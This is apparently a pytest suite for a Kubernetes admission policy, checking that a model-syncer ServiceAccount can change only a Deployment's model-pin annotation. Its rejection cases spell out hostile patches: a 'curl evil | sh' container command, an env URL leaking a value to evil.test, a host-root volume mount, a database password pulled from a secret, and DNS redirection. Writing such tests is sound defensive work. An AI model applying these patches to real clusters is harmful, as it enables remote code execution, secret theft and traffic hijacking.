"""The syncer's ServiceAccount may patch the api Deployment (RBAC), and the ValidatingAdmissionPolicy in
kubernetes/policies holds that patch to the model pin: tried through impersonation on a real API server."""

from __future__ import annotations

import pytest

from digits_syncer.pin_manifest import pin_patch
from digits_syncer.state import Pin
from kubernetes import client
from tests.support.manifests import apply_project

SYNCER = "system:serviceaccount:digits:digits-syncer"


@pytest.fixture(scope="module")
def apps(control_plane):
    apply_project(control_plane)
    return lambda user=None: client.AppsV1Api(control_plane.api_client(impersonate=user))


def _patch(api, body):
    return api.patch_namespaced_deployment("digits-api", "digits", body, dry_run="All")


def _template(spec=None, annotations=None):
    template = {"spec": spec or {}}
    if annotations:
        template["metadata"] = {"annotations": annotations}
    return {"spec": {"template": template}}


def test_the_syncer_may_change_the_pin(apps):
    patched = _patch(apps(SYNCER), pin_patch(Pin("v9.0.0", "https://example.test/b.zip", "a" * 64), "digits-api"))
    assert patched.spec.template.metadata.annotations["digits.app/model-version"] == "v9.0.0"


CONTAINER = {"name": "api", "image": "attacker/api:latest"}
FETCH = "fetch-model"
OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-0000-0000-000000000000"}
SECRET_URL = {
    "name": "MODEL_URL",
    "value": None,
    "valueFrom": {"secretKeyRef": {"name": "digits-postgres", "key": "password"}},
}
EXPANDED_URL = {"name": "MODEL_URL", "value": "https://evil.test/?p=$(MODEL_SHA256)"}


@pytest.mark.parametrize(
    ("body", "refusal"),
    [
        (_template({"containers": [CONTAINER]}), "containers"),
        (_template({"containers": [{"name": "api", "command": ["sh", "-c", "curl evil | sh"]}]}), "containers"),
        (_template({"initContainers": [{"name": FETCH, "image": "attacker/fetch:1"}]}), "init containers"),
        (_template({"initContainers": [{"name": FETCH, "args": ["--insecure"]}]}), "init containers"),
        (_template({"initContainers": [{"name": FETCH, "env": [{"name": "PROXY", "value": "x"}]}]}), "init containers"),
        (_template({"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}), "volumes"),
        (_template({"serviceAccountName": "digits-syncer"}), "service account"),
        ({"spec": {"replicas": 0}}, "replicas"),
        ({"spec": {"progressDeadlineSeconds": 99999}}, "the Deployment's"),
        ({"metadata": {"ownerReferences": [OWNER]}}, "the Deployment's"),
        (_template({"hostAliases": [{"ip": "203.0.113.9", "hostnames": ["digits-postgres"]}]}), "DNS"),
        (_template({"dnsPolicy": "None", "dnsConfig": {"nameservers": ["203.0.113.9"]}}), "DNS"),
        (_template({"initContainers": [{"name": FETCH, "env": [SECRET_URL]}]}), "one plain value each"),
        (_template({"initContainers": [{"name": FETCH, "env": [EXPANDED_URL]}]}), "one plain value each"),
        (_template(annotations={"kubectl.kubernetes.io/restartedAt": "now"}), "annotations"),
    ],
    ids=[
        "image", "command", "init-image", "init-args", "init-env", "volume", "account", "replicas", "deadline",
        "owner", "host-alias", "dns", "secret-in-pin", "expansion-in-pin", "annotation",
    ],
)  # fmt: skip
def test_the_syncer_may_change_nothing_else(apps, body, refusal):
    with pytest.raises(client.ApiException) as refused:
        _patch(apps(SYNCER), body)
    assert refused.value.status == 422, refused.value.body
    assert "the syncer may change only the model pin" in refused.value.body
    assert refusal in refused.value.body


def test_the_policy_binds_the_syncer_only(apps):
    patched = _patch(apps(), _template({"containers": [{"name": "api", "image": "digits-api:other"}]}))
    assert patched.spec.template.spec.containers[0].image == "digits-api:other"
